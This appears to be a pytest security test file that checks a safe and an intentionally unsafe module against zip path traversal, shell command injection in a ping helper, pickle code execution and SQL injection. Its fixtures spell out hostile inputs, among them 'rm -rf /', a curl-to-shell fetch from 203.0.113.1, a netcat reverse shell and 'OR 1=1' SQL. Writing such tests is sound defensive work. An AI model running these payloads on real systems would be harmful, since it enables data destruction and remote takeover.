import pickle
import sqlite3
import sys
import zipfile
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "src"))
import safe  # noqa: E402
import unsafe  # noqa: E402

BOTH = [pytest.param(safe, id="safe"),
        pytest.param(unsafe, id="unsafe", marks=pytest.mark.xfail(strict=True))]


def make_zip(path, name, data=b"x"):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(name, data)
    return path


@pytest.mark.parametrize("impl", BOTH)
@pytest.mark.parametrize("name", ["../evil.txt", "a/../../evil.txt"])
def test_extract_stays_inside(tmp_path, impl, name):
    dest = tmp_path / "out"
    dest.mkdir()
    (dest / "a").mkdir()
    try:
        impl.extract(make_zip(tmp_path / "t.zip", name), dest)
    except ValueError:
        pass
    assert not (tmp_path / "evil.txt").exists()


@pytest.mark.parametrize("name", ["/abs/evil.txt", "..\\evil.txt", "C:\\evil.txt"])
def test_extract_rejects_odd_names(tmp_path, name):
    with pytest.raises(ValueError):
        safe.extract(make_zip(tmp_path / "t.zip", name), tmp_path / "out")


@pytest.mark.parametrize("name", ["a..b.txt", "..data/readme", "rm -rf.txt", "报告(终稿).docx"])
def test_extract_accepts_harmless_lookalikes(tmp_path, name):
    safe.extract(make_zip(tmp_path / "t.zip", name), tmp_path / "out")
    assert (tmp_path / "out" / name).exists()


BAD_HOSTS = [
    "8.8.8.8; rm -rf /",
    "8.8.8.8 && curl http://203.0.113.1/x|sh",
    "$(id)",
    "`id`",
    "-oProxyCommand=id",
    "8.8.8.8\nid",
    "| nc 203.0.113.1 9 -e /bin/sh",
]


@pytest.mark.parametrize("impl", BOTH)
@pytest.mark.parametrize("host", BAD_HOSTS)
def test_ping_never_reaches_runner(impl, host):
    calls = []                      # 假执行器,只记录
    try:
        impl.ping(host, runner=lambda *a, **k: calls.append((a, k)))
    except ValueError:
        pass
    assert calls == []


@pytest.mark.parametrize("host", ["8.8.8.8", "::1", "db-1.internal.example"])
def test_ping_normal(host):
    calls = []
    safe.ping(host, runner=lambda *a, **k: calls.append((a, k)))
    (args,), kw = calls[0]
    assert args[-2:] == ["--", host] and kw["shell"] is False


@pytest.mark.parametrize("impl", BOTH)
def test_pickle_does_not_run_code(tmp_path, impl):
    sentinel = tmp_path / "executed"

    class Canary:
        def __reduce__(self):
            return (open, (str(sentinel), "w"))

    try:
        impl.loads(pickle.dumps(Canary()))
    except pickle.UnpicklingError:
        pass
    assert not sentinel.exists()


def test_pickle_plain_data():
    assert safe.loads(pickle.dumps({"a": [1, "os.system"]})) == {"a": [1, "os.system"]}


@pytest.mark.parametrize("impl", BOTH)
def test_sql_or_true(impl):
    db = sqlite3.connect(":memory:")
    db.execute("CREATE TABLE users (id INTEGER, name TEXT)")
    db.execute("INSERT INTO users VALUES (1, 'ana')")
    assert impl.find_user(db, "' OR '1'='1") == []


def test_sql_names_with_quotes():
    db = sqlite3.connect(":memory:")
    db.execute("CREATE TABLE users (id INTEGER, name TEXT)")
    db.execute("INSERT INTO users VALUES (2, ?)", ("O'Brien; DROP TABLE users;--",))
    assert safe.find_user(db, "O'Brien; DROP TABLE users;--") == [(2,)]
    assert db.execute("SELECT count(*) FROM users").fetchone() == (1,)
